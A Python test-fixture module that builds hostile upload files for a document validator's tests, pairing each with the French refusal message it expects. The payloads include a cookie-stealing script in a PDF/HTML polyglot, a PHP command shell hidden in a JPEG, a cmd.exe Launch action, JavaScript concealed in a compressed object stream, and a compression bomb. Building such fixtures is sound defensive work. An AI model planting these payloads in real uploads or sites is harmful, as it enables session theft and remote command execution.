"""Hostile files built here, byte by byte (no binary fixture): PDFs with active content, a
PDF/HTML polyglot, an SVG with a script, a JPEG carrying PHP, a PDF hiding its JavaScript in a
compressed object stream, a compression bomb, a 2,000-page, an encrypted and an empty file
(issue 20)."""

import io
import zlib

CATALOG = b"/Type /Catalog /Pages 2 0 R"
CONTENT = b"BT /F1 12 Tf 72 720 Td (Plan de situation) Tj ET"


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def _objects(catalog_extra=b"", page_extra=(b"",), extra=None) -> dict[int, bytes]:
    """Catalog 1, page tree 2, then the pages (each with its content stream), then `extra`
    numbered from 100."""
    pages = len(page_extra)
    kids = b" ".join(b"%d 0 R" % (10 + 2 * i) for i in range(pages))
    objects = {
        1: b"<< %s %s >>" % (CATALOG, catalog_extra),
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
    }
    for i, more in enumerate(page_extra):
        objects[10 + 2 * i] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R %s >>"
            % (11 + 2 * i, more)
        )
        objects[11 + 2 * i] = _stream(b"", CONTENT)
    objects.update(extra or {})
    return objects


def build_pdf(objects: dict[int, bytes], prefix: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table."""
    out = bytearray(prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (
            b"%010d 00000 n \n" % (offsets[number] - len(prefix))
            if number in offsets
            else b"0000000000 00000 f \n"
        )
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        xref - len(prefix),
    )
    return bytes(out)


def plain_pdf() -> bytes:
    # An opening view and a web link are ordinary: they run nothing.
    return build_pdf(
        _objects(
            catalog_extra=b"/OpenAction [10 0 R /Fit]",
            page_extra=(b"/Annots [100 0 R]",),
            extra={
                100: b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] "
                b"/A << /S /URI /URI (https://www.service-public.fr/) >> >>"
            },
        )
    )


def javascript_open_action() -> bytes:
    return build_pdf(
        _objects(
            catalog_extra=b"/OpenAction 100 0 R",
            extra={100: b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"},
        )
    )


def additional_action_on_page_2() -> bytes:
    return build_pdf(
        _objects(page_extra=(b"", b"/AA << /O << /S /JavaScript /JS (this.print\\(\\)) >> >>"))
    )


def launch_link() -> bytes:
    return build_pdf(
        _objects(
            page_extra=(b"/Annots [100 0 R]",),
            extra={
                100: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
                b"/A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
            },
        )
    )


def embedded_executable() -> bytes:
    return build_pdf(
        _objects(
            catalog_extra=b"/Names << /EmbeddedFiles << /Names [(setup.exe) 100 0 R] >> >>",
            extra={
                100: b"<< /Type /Filespec /F (setup.exe) /EF << /F 101 0 R >> >>",
                101: _stream(b"/Type /EmbeddedFile", b"MZ\x90\x00\x03\x00\x00\x00PE\x00\x00"),
            },
        )
    )


def xfa_form() -> bytes:
    return build_pdf(
        _objects(
            catalog_extra=b"/AcroForm << /Fields [] /XFA 100 0 R >>",
            extra={100: _stream(b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')},
        )
    )


def rich_media() -> bytes:
    return build_pdf(
        _objects(
            page_extra=(b"/Annots [100 0 R]",),
            extra={100: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"},
        )
    )


def pdf_html_polyglot() -> bytes:
    # Browsers tolerate bytes before %PDF-, and so did the upload: an HTML page in front.
    page = b"<html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>\n"
    return build_pdf(_objects(), prefix=page)


def svg_with_script() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(document.domain)</script></svg>"
    )


def jpeg_with_php() -> bytes:
    """A valid JPEG header, a comment segment holding PHP, then the end of image."""
    jfif = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    payload = b"<?php system($_GET['c']); ?>"
    comment = b"\xff\xfe" + (len(payload) + 2).to_bytes(2, "big") + payload
    return b"\xff\xd8" + jfif + comment + b"\xff\xd9"


def javascript_in_object_stream(padding: int = 0) -> bytes:
    """PDF 1.5: the JavaScript action is object 100, compressed inside the object stream 101
    and indexed by a cross-reference stream: `/JavaScript` appears nowhere in the bytes.
    `padding` spaces after it make the stream a compression bomb."""
    objects = _objects(catalog_extra=b"/OpenAction 100 0 R")
    hidden = b"<< /S /JavaScript /JS (app.launchURL\\('https://attacker.example'\\)) >>"
    header = b"100 0 "
    packed = zlib.compress(header + hidden + b" " * padding, 9)
    objects[101] = _stream(
        b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), packed
    )
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref_number = 102
    offsets[xref_number] = len(out)
    rows = bytearray()
    for number in range(xref_number + 1):
        if number == 100:
            rows += b"\x02" + (101).to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            rows += (
                b"\x00" + (0).to_bytes(4, "big") + (65535 if number == 0 else 0).to_bytes(2, "big")
            )
    dictionary = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1)
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, _stream(dictionary, bytes(rows)))
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def pages_pdf(pages: int) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pages_pdf(1))))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# name, bytes, what the French refusal says
CORPUS = [
    ("js-openaction.pdf", javascript_open_action, "du JavaScript, à l'ouverture du document"),
    ("aa-page-2.pdf", additional_action_on_page_2, "des actions automatiques (AA), en page 2"),
    ("launch.pdf", launch_link, "lance un programme (action Launch), en page 1"),
    ("setup-exe.pdf", embedded_executable, "un fichier incorporé, dans le document"),
    ("xfa.pdf", xfa_form, "un formulaire dynamique XFA, dans le document"),
    ("richmedia.pdf", rich_media, "un contenu multimédia actif (RichMedia), en page 1"),
    ("polyglot.pdf", pdf_html_polyglot, "code de page web ou de script caché (« <html »)"),
    ("dessin.svg", svg_with_script, "ni un PDF, ni une image JPEG ou PNG"),
    ("photo.jpg", jpeg_with_php, "code de page web ou de script caché (« <?php »)"),
    ("objstm.pdf", javascript_in_object_stream, "du JavaScript, à l'ouverture du document"),
    # 100 MB once inflated, 100 kB as sent: pypdf's limit stops it.
    ("bomb.pdf", lambda: javascript_in_object_stream(100_000_000), "illisible ou endommagé"),
    ("long.pdf", lambda: pages_pdf(2000), "Ce PDF compte 2000 pages"),
    ("secret.pdf", encrypted_pdf, "protégé par un mot de passe"),
    ("vide.pdf", lambda: b"", "est vide"),
]
